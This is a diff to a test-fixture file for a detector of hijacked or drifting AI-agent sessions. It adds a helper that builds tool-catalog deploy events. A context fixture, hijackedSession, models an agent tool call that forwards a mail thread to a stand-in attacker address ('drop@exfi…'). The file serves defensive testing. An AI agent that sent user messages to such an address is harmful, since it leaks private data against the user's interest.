@@ -3,6 +3,7 @@
  * parts (the agent-sessions corpus layout: model input at t0, each call at t0 + 5(k+1) s, its result 1 s later) and
  * parsed by the real trace parser. Only for specifying behaviour in tests; the detector is measured on real corpora.
  */
+import type { DeployEvent } from '../../../lib/core/deploy-events/types.ts';
 import { aggregateObservations } from '../../../lib/core/drift/timeline.ts';
 import { noIdentity } from '../../../lib/core/identity/types.ts';
 import type { Observation } from '../../../lib/core/observation.ts';
@@ -206,6 +207,20 @@ export function hijackedSession(id: string, start: number, attacker = 'drop@exfi
       },
       { fn: 'send_message', params: { to: attacker, body: 'Forwarded thread.' }, result: '{"ok":true}' },
     ],
+  };
+}
+
+/** A tool-catalog deploy of the agent at `time` (ms) declaring `adds`. */
+export function catalogDeploy(id: string, time: number, adds: string[] = []): DeployEvent {
+  return {
+    id,
+    subject: SUBJECT,
+    time: new Date(time).toISOString(),
+    kind: 'tool-catalog',
+    origin: 'cloudtrail',
+    adds,
+    removes: [],
+    summary: 'UpdateAgentActionGroup mail-tools',
   };
 }
 
